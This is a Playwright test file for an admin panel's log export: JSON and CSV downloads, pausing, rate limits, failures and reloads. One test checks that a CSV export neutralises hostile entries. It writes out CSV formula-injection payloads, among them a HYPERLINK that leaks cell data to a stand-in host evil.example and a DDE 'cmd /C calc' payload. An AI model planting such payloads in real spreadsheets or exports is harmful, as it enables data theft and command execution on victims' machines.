import { SERVER_PAGES } from './log-entries'
import { readFile } from 'node:fs/promises'
import type { Download, Page } from '@playwright/test'
import { expect, test } from '../support/test'

test.use(SERVER_PAGES)

async function startExport(page: Page, format: 'Table (CSV)' | 'JSON lines'): Promise<void> {
  await page.getByRole('button', { name: 'Export', exact: true }).click()
  await page.getByRole('menuitem', { name: format }).click()
}

async function textOf(download: Promise<Download>): Promise<string> {
  return readFile(await (await download).path(), 'utf8')
}

/** The card of the export in the job panel. */
const card = (page: Page) => page.getByRole('article', { name: /^Export logs-/ })

/** Returns the ids of the entries in an export file, in file order. */
const idsOf = (text: string) =>
  text
    .trimEnd()
    .split('\n')
    .map((line) => Number(/"id":(\d+)/.exec(line)?.[1]))

test.describe('as root', () => {
  test.use({ caller: 'root' })

  test('log export: the file contains every entry of the filter once, newest first', async ({
    page,
    expectToast: _told,
    world,
  }) => {
    await page.goto('/log?type=2')
    const download = page.waitForEvent('download')
    await startExport(page, 'JSON lines')
    await expect(page.getByText(/^300 rows exported$/)).toBeVisible()
    const ids = idsOf(await textOf(download))
    expect(ids).toHaveLength(300)
    expect(ids).toEqual([...ids].toSorted((one, other) => other - one))
    const pageCalls = await world.calls(/GET \/api\/log\/\?/)
    expect(pageCalls.every((call) => call.includes('type=2'))).toBe(true)
    await card(page).getByRole('button', { name: 'Close the report' }).click()
    await expect(page.getByText(/rows exported/)).toBeHidden()
  })

  test('log export: goes on while other pages are visited, pauses and resumes, and the file has every entry once', async ({
    page,
    world,
    accessible,
  }) => {
    await page.goto('/log?type=2')
    await expect(page.getByText(/^Consumed in this filter: \$/)).toBeVisible()
    await world.fault({ call: 'GET /api/log/?p=4', kind: 'hang', times: 1 })
    await startExport(page, 'JSON lines')
    await expect(card(page).getByRole('progressbar')).toHaveAttribute(
      'aria-valuetext',
      /^40 rows, back to \d{4}-/,
    )
    await page.getByRole('link', { name: 'Tokens', exact: true }).click()
    await expect(page.getByRole('heading', { level: 1, name: 'Tokens' })).toBeVisible()
    await accessible()
    await card(page).getByRole('button', { name: 'Pause' }).press('Enter')
    await expect(card(page).getByRole('button', { name: 'Resume' })).toBeFocused()
    await expect(card(page).getByRole('progressbar')).toBeHidden()
    const download = page.waitForEvent('download')
    await page.keyboard.press('Enter')
    const ids = idsOf(await textOf(download))
    await expect(card(page)).toContainText(`${ids.length} rows exported`)
    expect([ids.length, new Set(ids).size]).toEqual([300, 300])
    expect(ids).toEqual([...ids].toSorted((one, other) => other - one))
    expect(await world.calls(/GET \/api\/log\/\?p=3&/)).toHaveLength(1)
    await card(page).getByRole('button', { name: 'Close the report' }).click()
    await expect(page.getByRole('button', { name: /^Jobs:/ })).toBeHidden()
  })

  test.describe('with hostile entries', () => {
    test.use({ seed: 'hostile' })

    test('log export: the CSV file contains no formula and no broken line (PC01 to PC15)', async ({
      page,
    }) => {
      await page.goto('/log')
      const download = page.waitForEvent('download')
      await startExport(page, 'Table (CSV)')
      const text = await textOf(download)
      expect(text.startsWith('\uFEFFTime,Channel,User,Token,Type,Model,Prompt,Completion,')).toBe(true)
      expect(text).toContain('"\'=HYPERLINK(""https://evil.example/?""&A1,""x"")"')
      expect(text).toContain("'-2+3")
      expect(text).toContain("'@SUM(1)")
      expect(text).toContain('"\'\r=1"')
      expect(text).toContain("'=cmd|' /C calc'!A0")
      expect(text).toContain('"a,b"')
      expect(text).toContain('"a\nb"')
      expect(text).toContain('中文')
      expect(text).not.toMatch(/(^|,|\r\n)"?[=@+]/)
    })
  })
})

test('log export: waits during a rate limit and then continues automatically', async ({ page, world }) => {
  await page.clock.install()
  await page.goto('/log')
  await expect(page.getByText(/^Consumed in this filter: \$/)).toBeVisible()
  await world.fault({ call: 'GET /api/log/self?p=3', kind: 'F08', seconds: 60, times: 1 })
  const download = page.waitForEvent('download')
  await startExport(page, 'JSON lines')
  await expect(page.getByText(/Too many requests\. Resumes in \d+ s\./).first()).toBeVisible()
  await page.clock.runFor(61_000)
  const text = await textOf(download)
  expect(text.split('\n').length).toBeGreaterThan(80)
  expect(await world.calls(/self\?p=2&/)).toHaveLength(1)
  expect(await world.calls(/self\?p=3&/)).toHaveLength(2)
})

test('log export: a failure keeps what is written and offers to continue or stop', async ({
  page,
  world,
}) => {
  await page.goto('/log')
  await expect(page.getByText(/^Consumed in this filter: \$/)).toBeVisible()
  await world.fault({ call: 'GET /api/log/self?p=4', kind: 'refused', message: 'not now' })
  await startExport(page, 'JSON lines')
  await expect(card(page).getByRole('alert')).toContainText('The export stopped after 40 rows. not now')
  await world.clearFaults()
  await world.fault({ call: 'GET /api/log/self?p=6', kind: 'hang' })
  await page.getByRole('button', { name: 'Resume' }).click()
  await expect(page.getByText(/^60 rows, back to/)).toBeVisible()
  await expect(page.getByRole('button', { name: 'Export', exact: true })).toHaveAttribute(
    'aria-disabled',
    'true',
  )
  expect(await world.calls(/self\?p=3&/)).toHaveLength(1)
  await card(page).getByRole('button', { name: 'Stop' }).click()
  await expect(card(page)).toBeHidden()
  await expect(page.getByRole('button', { name: 'Export', exact: true })).toBeFocused()
  await world.clearFaults()
  await expect(page.getByRole('button', { name: 'Export', exact: true })).not.toHaveAttribute(
    'aria-disabled',
    'true',
  )
})

/** The most rows of a job that are in the database of jobs. Runs in the page. */
async function storedRows(): Promise<number> {
  const done = <Result>(request: IDBRequest<Result>) =>
    new Promise<Result>((resolve, reject) => {
      request.addEventListener('success', () => resolve(request.result))
      request.addEventListener('error', () => reject(new Error('the database of jobs cannot be read')))
    })
  const database = await done(indexedDB.open('jobs'))
  const records: { rows?: number }[] = await done(
    database.transaction('records').objectStore('records').getAll(),
  )
  database.close()
  return Math.max(0, ...records.map(({ rows = 0 }) => rows))
}

test('log export: asks before the page is reloaded, and tells afterwards that no file was saved', async ({
  page,
  world,
}) => {
  await page.goto('/log')
  await expect(page.getByText(/^Consumed in this filter: \$/)).toBeVisible()
  await world.fault({ call: 'GET /api/log/self?p=4', kind: 'hang' })
  await startExport(page, 'Table (CSV)')
  await expect(page.getByText(/^40 rows, back to/)).toBeVisible()
  // A reload keeps what is in the database.
  await expect.poll(() => page.evaluate(storedRows)).toBe(40)
  const asked = page.waitForEvent('dialog')
  // The page fixture accepts the dialog.
  await page.reload()
  expect((await asked).type()).toBe('beforeunload')
  await expect(card(page)).toContainText('The page was reloaded after 40 rows. No file was saved.')
  await card(page).getByRole('button', { name: 'Close the report' }).click()
  await expect(card(page)).toBeHidden()
  await page.reload()
  await expect(page.getByText(/^Consumed in this filter: \$/)).toBeVisible()
  await expect(card(page)).toBeHidden()
})
